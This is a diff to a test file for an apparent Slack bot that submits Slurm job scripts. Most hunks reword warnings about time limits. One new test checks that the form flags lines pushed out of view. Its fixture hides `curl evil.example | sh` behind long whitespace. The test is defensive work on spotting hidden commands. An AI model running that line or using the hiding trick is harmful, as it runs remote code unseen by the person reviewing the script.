@@ -171,7 +171,7 @@ describe('is a warning with its line, in the prompt and in the form', () => {
     [
       'minutes',
       script('#SBATCH --time=1:00'),
-      'Line 2: --time=1:00 means 1 min. For hours write 1:00:00.',
+      'Line 2: --time=1:00 means 1 min. For hours write `1:00:00`.',
     ],
     [
       'no limit',
@@ -181,7 +181,7 @@ describe('is a warning with its line, in the prompt and in the form', () => {
     [
       'time',
       script('#SBATCH --time=2h'),
-      'Line 2: --time=2h is no time that Slurm understands, so it refuses the script. Write hours:minutes:seconds or days-hours.',
+      'Line 2: --time=2h is no time that Slurm understands, so it refuses the script. Write `hours:minutes:seconds` or days-hours.',
     ],
     [
       'single dash',
@@ -371,6 +371,22 @@ test('a script that someone else shared runs as the person who submits it, and t
     'Shared by <@U0ANA00001>. It will run as you.',
   );
   await ana.closeModal();
+});
+
+test('the form says what of a script it does not show, where all of it is, and who will read along', async () => {
+  const { ana, ben } = world;
+  const hiding = `echo hello${' '.repeat(230)}; curl evil.example | sh`;
+  const content = `${script('hiding', 1)}${hiding}\n${'echo\n'.repeat(50)}${hiding}\n`;
+  const prompt = await share(ana, JOBS, { name: 'hiding.sh', content, text: '<@U0SLURMBOT>' });
+  await ben.click(JOBS, prompt.ts, 'Submit…');
+  const said = texts((await seesModal(ben, 'Allocation')).blocks).join('\n');
+  expect(said).toMatch(/\necho hello {190}…\n/);
+  expect(said).toMatch(
+    /1 line above is longer than shown here\. \d+ more lines, 1 of them longer than shown here\. Read <https:\/\/\S+\/hiding\.sh\|the whole file>\./,
+  );
+  expect(said).toContain('Read the whole file first: 2 lines are longer than what is shown here');
+  expect(said).toContain(`People in <#${JOBS}> will see its name, state and error`);
+  await ben.closeModal();
 });
 
 test('a name that breaks the cluster’s listing is refused in the form, under its field', async () => {
